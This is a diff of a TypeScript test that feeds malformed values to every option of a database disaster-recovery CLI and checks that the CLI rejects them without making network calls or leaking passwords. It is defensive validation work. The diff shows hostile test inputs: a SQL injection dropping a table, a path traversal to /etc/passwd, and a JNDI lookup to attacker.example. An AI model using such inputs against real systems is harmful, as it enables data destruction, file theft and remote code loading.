@@ -1,6 +1,7 @@
 import { join } from 'node:path';
 import { Client } from 'pg';
 import { runCli, type CliIo } from '../../lib/cli/program';
+import { HOSTILE, HOSTILE_PASSWORD, HOSTILE_URL, MIGRATE_ARGV, OVERSIZED } from '../support/bad-values';
 
 /**
  * Bad input on the command line: every option of every `dr` command replaced in turn with malformed,
@@ -8,16 +9,7 @@ import { runCli, type CliIo } from '../../lib/cli/program';
  * exit code 2 and a message naming the option, before any AWS call, database connection or network request,
  * and without echoing a password.
  */
-const HOSTILE = [
-  "x'; DROP TABLE account; --",
-  'postgresql://admin:hunter2@db.example.org:5432/app',
-  '../../etc/passwd',
-  'a\u0000b',
-  'line\nbreak',
-  '${jndi:ldap://attacker.example/x}',
-  '',
-];
-const OVERSIZED = 'x'.repeat(100_000);
+const VALUES = [...HOSTILE, ''];
 const NUMBERS = ['-1', '0', '1e15', '99999999999999999999', 'soon', '1.5', ''];
 
 interface CliTarget {
@@ -50,7 +42,7 @@ const migrations = (command: string, extra: string[] = []): CliTarget => ({
   numeric: ['--lock-timeout'],
   required: [],
   legitimate: {
-    '--database-url': ['postgresql://admin:hunter2@db.example.org:5432/app'],
+    '--database-url': [HOSTILE_URL],
     // A folder path is only read; these name folders without migrations, refused as such (see below).
     '--dir': ['../../etc/passwd', "x'; DROP TABLE account; --", '${jndi:ldap://attacker.example/x}'],
   },
@@ -70,25 +62,11 @@ const TARGETS: CliTarget[] = [
   {
     name: 'dr migrate',
     argv: [
-      'migrate',
-      '--blue-db-secret',
-      'pg-dr/blue',
-      '--green-db-secret',
-      'arn:aws:secretsmanager:us-east-1:111122223333:secret:pg-dr/green-AbCdEf',
-      '--blue-endpoint',
-      'blue.abc.us-west-2.rds.amazonaws.com',
-      '--green-endpoint',
-      'green.def.us-west-2.rds.amazonaws.com',
-      '--dns-zone',
-      'Z0EXAMPLE12345',
-      '--dns-record',
-      'db.provability-fabric.org',
+      ...MIGRATE_ARGV,
       '--dns-set-identifier',
       'db.provability-fabric.org-primary',
       '--dns-secondary-set-identifier',
       'db.provability-fabric.org-secondary',
-      '--smoke-test-url',
-      'https://api.provability-fabric.org/health',
       '--subscription',
       'dr_blue_green',
       '--catch-up-timeout',
@@ -170,7 +148,7 @@ function cases(target: CliTarget): Case[] {
     if (valueAt === undefined) continue;
     const values = target.numeric.includes(option)
       ? [...NUMBERS, OVERSIZED]
-      : [...HOSTILE, OVERSIZED].filter((v) => !(target.legitimate?.[option] ?? []).includes(v));
+      : [...VALUES, OVERSIZED].filter((v) => !(target.legitimate?.[option] ?? []).includes(v));
     for (const value of values)
       out.push({
         option,
@@ -265,7 +243,7 @@ describe('bad input on the command line: every option of every dr command', () =
         else if (!said.includes(c.option))
           wrong.push(`${c.option} ${c.kind}: message does not name it: ${said}`);
         if (calls.length > 0) wrong.push(`${c.option} ${c.kind}: called ${calls.join(', ')}`);
-        expect(said).not.toContain('hunter2');
+        expect(said).not.toContain(HOSTILE_PASSWORD);
         expect(said).not.toContain('Pw-Local-1');
       }
       expect(wrong).toEqual([]);
